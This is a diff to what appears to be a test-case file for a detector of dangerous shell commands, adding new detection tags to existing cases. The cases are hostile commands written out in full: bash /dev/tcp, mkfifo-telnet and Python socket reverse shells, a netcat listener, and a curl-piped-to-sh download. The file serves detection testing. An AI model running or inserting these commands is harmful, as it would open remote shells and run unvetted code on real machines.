@@ -2,9 +2,11 @@
 #also Shell connects to the network
 bash -c 'bash -i >& /dev/tcp/203.0.113.9/4445 0>&1'
 ## Reverse shell through a named pipe
+#also Named pipe in a scratch folder written by a shell
 sh -c 'mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | timeout 1 telnet 203.0.113.9 4445 > /tmp/f'
 ## Reverse shell in one line of an interpreter
 #also Code without a file connects to the internet
+#also Code without a file connects to an address without a name
 python3 -c 'import socket,os; s=socket.socket(); s.connect(("203.0.113.9",4445)); os.dup2(s.fileno(),0); os.system("/bin/sh")'
 ## Shell with a connection, of a program that no package installed
 #also Command of a reverse shell
@@ -17,12 +19,14 @@ python3 -c 'import socket,os; s=socket.socket(); s.connect(("203.0.113.9",4445))
 remote '/home/ann/tool -c "sh -c true; true"'
 ## Input and output tied to a connection with another machine
 #also Code without a file connects to the internet
+#also Code without a file connects to an address without a name
 #also Reverse shell in one line of an interpreter
 #setup listener 4445
 sh -c 'python3 -c "import socket, os; s = socket.create_connection((\"203.0.113.9\", 4445)); os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1)"'
 ## Input and output tied to a connection from another machine
 #also Code without a file connects to the internet
 #also Code without a file waits for callers
+#also Code without a file connects to an address without a name
 #also Reverse shell in one line of an interpreter
 python3 -c 'import socket, os
 s = socket.create_server(("", 4447)); c = socket.create_connection(("203.0.113.9", 4447)); a, _ = s.accept()
@@ -30,8 +34,10 @@ os.dup2(a.fileno(), 0); os.dup2(a.fileno(), 1)'
 ## Network tool listens for a caller
 timeout 0.3 busybox nc -l -p 4446
 ## Download run without being looked at
+#also Download beside an interpreter
 sh -c 'curl -s http://10.9.8.7/x | sh'
 ## Downloaded script run by a server's command
+#also Download beside an interpreter
 #also Download run without being looked at
 #also Download tool started by a server
 #also Shell started by a network server
